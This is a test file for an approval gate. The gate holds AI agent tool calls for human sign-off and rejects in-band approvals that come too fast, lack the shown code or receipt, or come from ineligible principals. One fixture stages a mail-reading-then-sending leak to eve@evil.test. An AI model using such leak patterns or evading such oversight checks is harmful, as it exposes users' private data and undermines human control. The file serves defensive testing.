import { voteReasonText } from '@callgate/messages/approval';
import type { People } from '@callgate/gate';
import type { InBandConnection, InBandSettings, VoteResult } from '@callgate/gate/confirm';
import { IN_BAND_UNCOUNTED, formatQuestion } from '@callgate/gate/confirm';
import { describe, expect, it } from 'vitest';
import type { Office } from './office.ts';
import { OFFICE, call, catalogueOf, office, person, policyText, recorder, story } from './office.ts';

const STDIO: InBandConnection = { transport: 'stdio', client: 'desktop' };
const HTTP: InBandConnection = { transport: 'http', client: 'desktop' };
const HOST: InBandConnection = { transport: 'host', client: 'desktop' };

const human = (subject: string): People['all'][number] => ({ subject, groups: [], active: true });
const TEAM: People = { all: [human('local'), human('ada')], selfApproval: true };

const DELETE = call('delete_note', { id: '1' });

interface InBandAnswerOptions {
  readonly connection?: InBandConnection;
  /** What is typed; what the question shows where nothing is said. */
  readonly code?: string;
  readonly afterMs?: number;
  /** How long what was approved has run when the answer comes. */
  readonly ranMs?: number;
  readonly verdict?: 'approve' | 'refuse';
  readonly canApprove?: boolean;
}

interface InBandAnswerResult {
  readonly id: string;
  readonly ticket: string;
  readonly asked: boolean;
  readonly because: string;
  readonly result: VoteResult | undefined;
}

/** Asks over the agent's connection, and answers as a person would unless something else is said. */
const answers = async (
  place: Office,
  request = DELETE,
  how: InBandAnswerOptions = {},
): Promise<InBandAnswerResult> => {
  const { connection = STDIO, afterMs = 20_000, verdict = 'approve' } = how;
  const held = await place.gate.begin(request);
  if (held.state !== 'held') throw new Error(held.state);
  let code = '';
  const { desk } = place.gate;
  const asked = await desk.askInBand(held.call, connection, (question, shown) => {
    code = shown ?? '';
    return { text: formatQuestion(question, { open: true }), canApprove: how.canApprove ?? true };
  });
  const { call: id, ticket } = held;
  if (!asked.asked)
    return { id, ticket, asked: false, because: voteReasonText(asked.because), result: undefined };
  place.clock.advance(afterMs);
  const result = await desk.vote({
    call: id,
    subject: asked.subject,
    verdict,
    via: 'elicitation',
    binding: asked.question.binding,
    opened: true,
    inBand: {
      connection,
      receipt: asked.receipt,
      code: how.code ?? code,
      ...(how.ranMs === undefined ? {} : { afterAnswerMs: how.ranMs }),
    },
  });
  return {
    id,
    ticket,
    asked: true,
    because: result.refusedBecause === undefined ? '' : voteReasonText(result.refusedBecause),
    result,
  };
};

const byConsole = async ({ gate }: Office, id: string, subject = 'local'): Promise<VoteResult> =>
  await gate.desk.vote({
    call: id,
    subject,
    verdict: 'approve',
    via: 'console',
    binding: (await gate.desk.question(id))?.binding ?? '',
    opened: true,
  });

/** The call waits as before, the operator reads why, no later answer counts, and a person elsewhere can approve it. */
const staysPending = async (place: Office, { id }: InBandAnswerResult, why: RegExp): Promise<void> => {
  expect((await place.store.read.call(id))?.state).toBe('held');
  expect(await place.store.read.votes(id)).toEqual([]);
  const { items } = await place.store.read.alerts({ limit: 10 });
  expect(items).toMatchObject([
    { code: IN_BAND_UNCOUNTED, call: id, message: expect.stringMatching(why), to: ['operator'] },
  ]);
  expect(await story(place.store, id)).toEqual(['held', 'alert']);
  const again = await place.gate.desk.askInBand(id, STDIO, () => ({ text: 'text', canApprove: true }));
  expect(again).toMatchObject({ asked: false, because: { code: 'failedBefore' } });
  expect((await byConsole(place, id)).state).toBe('approved');
};

describe('a yes over the agent’s own connection', () => {
  it('approves a mild call when a person reads it and types the code', async () => {
    const place = await office();
    const { result, id, ticket } = await answers(place);
    expect(result).toEqual({ state: 'approved', missing: [] });
    expect(await story(place.store, id)).toEqual(['held', 'vote', 'approved']);
    expect(await place.gate.resume(ticket, DELETE)).toMatchObject({ state: 'dispatching' });
  });

  it.each([
    ['without the code', { code: '' }, /code/],
    ['with another code', { code: 'AAAA' }, /code/],
    ['at once', { afterMs: 0 }, /sooner than a person can read/],
    ['at once, of a tool that then ran for long', { ranMs: 20_000 }, /sooner than a person can read/],
    ['before the question can be read', { afterMs: 2000 }, /sooner than a person can read/],
  ])('does not count %s: it is recorded, and the call waits for a person elsewhere', async (_, how, why) => {
    const place = await office();
    const answered = await answers(place, DELETE, how);
    expect(answered.because).toMatch(why);
    await staysPending(place, answered, why);
  });

  it('counts where the person had read the question before the tool ran', async () => {
    const place = await office();
    expect((await answers(place, DELETE, { afterMs: 60_000, ranMs: 40_000 })).result?.state).toBe('approved');
  });

  it('counts sooner where the operator set a shorter reading time', async () => {
    const place = await office({ limits: { readingMs: 10 } });
    expect((await answers(place, DELETE, { afterMs: 500 })).result?.state).toBe('approved');
  });

  it('does not count to a question that did not show the whole arguments, whatever the code', async () => {
    const place = await office();
    const answered = await answers(place, DELETE, { canApprove: false });
    expect(answered.because).toContain('Not all arguments were shown');
    expect(answered.result?.state).toBe('held');
    const refused = await answers(await office(), DELETE, { canApprove: false, verdict: 'refuse' });
    expect(refused.result?.state).toBe('refused');
  });

  it('does not count when one that does not count is on its way at the same time', async () => {
    const place = await office();
    const held = await place.gate.begin(DELETE);
    if (held.state !== 'held') throw new Error(held.state);
    const { desk } = place.gate;
    let shown = '';
    const asked = await desk.askInBand(held.call, STDIO, (question, code) => {
      shown = code ?? '';
      return { text: formatQuestion(question, { open: true }), canApprove: true };
    });
    if (!asked.asked) throw new Error(asked.because.code);
    place.clock.advance(20_000);
    const vote = (code: string): Promise<VoteResult> =>
      desk.vote({
        call: held.call,
        subject: asked.subject,
        verdict: 'approve',
        via: 'elicitation',
        binding: asked.question.binding,
        opened: true,
        inBand: { connection: STDIO, receipt: asked.receipt, code },
      });
    const results = await Promise.all([vote('none'), vote(shown)]);
    expect(results.map(({ refusedBecause }) => refusedBecause)).toEqual([
      { code: 'noCode' },
      { code: 'failedBefore' },
    ]);
  });

  it('goes by the reading time that is set while the gate is open', async () => {
    const place = await office({ limits: { readingMs: 10 } });
    place.gate.useLimits({ readingMs: 5000 });
    expect((await answers(place, DELETE, { afterMs: 500 })).because).toContain('sooner than a person');
    place.gate.useLimits({ readingMs: 10 });
    const other = call('delete_note', { id: '2' });
    expect((await answers(place, other, { afterMs: 500 })).result?.state).toBe('approved');
  });

  it('does not count without a receipt, or with that of another question', async () => {
    const place = await office();
    const { id } = await answers(place, DELETE, { verdict: 'approve', code: 'none' });
    const other = await place.gate.begin(call('delete_note', { id: '2' }));
    if (other.state !== 'held') throw new Error(other.state);
    const asked = await place.gate.desk.askInBand(other.call, STDIO, (_, code) => ({
      text: code ?? '',
      canApprove: true,
    }));
    if (!asked.asked) throw new Error(asked.because.code);
    const third = await place.gate.begin(call('delete_note', { id: '3' }));
    if (third.state !== 'held') throw new Error(third.state);
    place.clock.advance(60_000);
    const vote = {
      call: third.call,
      subject: 'local',
      verdict: 'approve',
      via: 'elicitation',
      binding: (await place.gate.desk.question(third.call))?.binding ?? '',
      opened: true,
    } as const;
    const inBand = { connection: STDIO, receipt: asked.receipt, code: asked.text };
    expect(await place.gate.desk.vote({ ...vote, inBand })).toMatchObject({
      state: 'held',
      refusedBecause: { code: 'otherQuestion' },
    });
    expect(await place.gate.desk.vote(vote)).toMatchObject({ state: 'held' });
    expect(await place.gate.desk.vote({ ...vote, inBand: { ...inBand, receipt: 'x' } })).toMatchObject({
      state: 'held',
    });
    expect((await place.store.read.call(id))?.state).toBe('held');
  });

  it('gives no grant, and is for one call', async () => {
    const place = await office();
    const held = await place.gate.begin(DELETE);
    if (held.state !== 'held') throw new Error(held.state);
    const asked = await place.gate.desk.askInBand(held.call, STDIO, (_, code) => ({
      text: code ?? '',
      canApprove: true,
    }));
    if (!asked.asked) throw new Error(asked.because.code);
    place.clock.advance(60_000);
    const vote = {
      call: held.call,
      subject: 'local',
      verdict: 'approve',
      via: 'elicitation',
      binding: asked.question.binding,
      opened: true,
      inBand: { connection: STDIO, receipt: asked.receipt, code: asked.text },
      grant: { kind: 'session', uses: 10, endsInMs: 60_000 },
    } as const;
    await expect(place.gate.desk.voteGroup([vote])).rejects.toMatchObject({ code: 'GROUP_REFUSED' });
    expect(await place.gate.desk.vote(vote)).toMatchObject({
      state: 'approved',
      noGrantBecause: { code: 'notOffered' },
    });
    expect((await place.store.read.grants({ limit: 10 }, { live: true, now: 0 })).items).toEqual([]);
  });

  it('is a no at once, without a code', async () => {
    const place = await office();
    const { result } = await answers(place, DELETE, { verdict: 'refuse', code: '', afterMs: 0 });
    expect(result?.state).toBe('refused');
  });
});

describe('the operator’s settings', () => {
  const off: InBandSettings = { answersInBand: false, clients: [{ name: 'desktop', answersInBand: true }] };
  const listed = (answersInBand: boolean): InBandSettings => ({
    clients: [{ name: 'desktop', answersInBand }],
  });

  it.each([
    ['answersInBand: false for all', off, STDIO],
    ['answersInBand: false for all, in the dialog of a host', off, HOST],
    ['answersInBand: false for the client', listed(false), STDIO],
    [
      'the client twice, once with false',
      { clients: [...listed(true).clients, ...listed(false).clients] },
      STDIO,
    ],
    ['nothing, over HTTP', { clients: [] }, HTTP],
    ['another client, over HTTP', { clients: [{ name: 'other', answersInBand: true }] }, HTTP],
  ] as const)('say %s: the agent is not even asked', async (_, inBand, connection) => {
    const place = await office({ inBand });
    const answered = await answers(place, DELETE, { connection });
    expect(answered.asked).toBe(false);
    expect((await byConsole(place, answered.id)).state).toBe('approved');
  });

  it.each([
    ['nothing, on stdio', { clients: [] }, STDIO],
    ['nothing, in the dialog of a host', { clients: [] }, HOST],
    ['the client, over HTTP', listed(true), HTTP],
  ] as const)('say %s: a person’s answer counts', async (_, inBand, connection) => {
    const place = await office({ inBand });
    expect((await answers(place, DELETE, { connection })).result?.state).toBe('approved');
  });

  it('count when the answer comes, and again when the call leaves', async () => {
    const place = await office();
    const { ticket, result } = await answers(place);
    expect(result?.state).toBe('approved');
    place.gate.useInBand({ answersInBand: false, clients: [] });
    expect(await place.gate.resume(ticket, DELETE)).toMatchObject({
      state: 'withdrawn',
      code: 'APPROVAL_VOID',
    });
  });

  it('of several people need the client listed, and never make two approvals of one', async () => {
    expect((await answers(await office({ people: TEAM }))).asked).toBe(false);
    const place = await office({
      people: TEAM,
      inBand: listed(true),
      policy: policyText(
        'name: t\nextends: balanced\nrules:\n  - id: two\n    when: tool.destroys == yes\n    then: confirm\n    approvers: 2\n    reason: two\n',
      ),
    });
    const { result, id } = await answers(place);
    expect(result?.state).toBe('held');
    expect((await byConsole(place, id)).refusedBecause).toEqual({ code: 'twice' });
    expect((await byConsole(place, id, 'ada')).state).toBe('approved');
  });

  it('never make a vote of a program, of a delegate, or of somebody who may not decide', async () => {
    for (const principal of [
      { ...person('local'), kind: 'service' as const },
      { ...person('local'), delegation: ['ada'] },
      person('eve'),
    ]) {
      const place = await office({ people: TEAM, inBand: listed(true) });
      expect((await answers(place, call('delete_note', { id: '1' }, { principal }))).asked).toBe(false);
    }
    const alone = await office({ people: { ...TEAM, selfApproval: false }, inBand: listed(true) });
    expect((await answers(alone)).asked).toBe(false);
  });
});

describe('a severe call', () => {
  /** Why it was not asked; and a person in the console could approve it. */
  const whyNotAsked = async (place: Office, request: typeof DELETE): Promise<string> => {
    const { asked, because, id } = await answers(place, request);
    expect(asked).toBe(false);
    expect((await byConsole(place, id)).state).toBe('approved');
    return because;
  };

  it('of the lethal trifecta is never approved over the agent’s connection', async () => {
    const place = await office();
    const read = await place.gate.run(call('read_mail'), recorder().dispatch);
    expect(read.state).toBe('done');
    expect(await whyNotAsked(place, call('send_mail', { to: 'eve@evil.test', body: 'x' }))).toMatch(
      /leak private data/,
    );
    await answers(place, call('delete_note', { id: '1' }));
  });

  it('of the trifecta is not either where a policy asks for nothing stronger', async () => {
    const policy = policyText(
      'name: t\nrules:\n  - id: reads\n    when: tool.mutates == no\n    then: auto\n    reason: reads\n  - id: writes\n    when: tool.mutates != no\n    then: confirm\n    reason: writes\n',
    );
    const place = await office({ policy });
    await place.gate.run(call('read_mail'), recorder().dispatch);
    expect(await whyNotAsked(place, call('send_mail', { to: 'eve@evil.test', body: 'x' }))).toMatch(
      /leak private data/,
    );
  });

  it('on strong terms, of a trusted server, is not either', async () => {
    const policy = policyText(
      'name: t\nextends: balanced\nrules:\n  - id: s\n    when: tool.destroys == yes\n    then: confirm\n    terms: strong\n    reason: s\n',
    );
    expect(await whyNotAsked(await office({ policy }), DELETE)).toMatch(/extra checks/);
  });

  it('of a quarantined tool is not either, where a policy lets people decide about it', async () => {
    const catalogue = catalogueOf();
    const quarantined: typeof catalogue = {
      find: (...about) => {
        const found = catalogue.find(...about);
        return found && { ...found, tool: { ...found.tool, quarantine: 'its description changed' } };
      },
    };
    const policy = policyText('name: t\nrules:\n  - id: all\n    then: confirm\n    reason: all\n');
    expect(await whyNotAsked(await office({ policy, catalogue: quarantined }), DELETE)).toBe(
      'The tool is quarantined',
    );
    expect((await answers(await office({ policy }))).result?.state).toBe('approved');
  });

  it('of an untrusted server that may destroy, or that nobody described, is not either', async () => {
    const untrusted = OFFICE.map((tool) => ({ ...tool, trust: 'untrusted' as const }));
    expect(await whyNotAsked(await office({ catalogue: catalogueOf(untrusted) }), DELETE)).toMatch(
      /not trusted/,
    );
    expect(await whyNotAsked(await office(), call('mystery'))).toMatch(/not trusted/);
  });

  it('becomes one when its server stops being trusted before it leaves', async () => {
    const trust: { now: 'trusted' | 'untrusted' } = { now: 'trusted' };
    const place = await office({
      catalogue: {
        find: (...about) => catalogueOf(OFFICE.map((tool) => ({ ...tool, trust: trust.now }))).find(...about),
      },
    });
    const { ticket, result } = await answers(place);
    expect(result?.state).toBe('approved');
    trust.now = 'untrusted';
    expect(await place.gate.resume(ticket, DELETE)).toMatchObject({ code: 'APPROVAL_VOID' });
  });
});
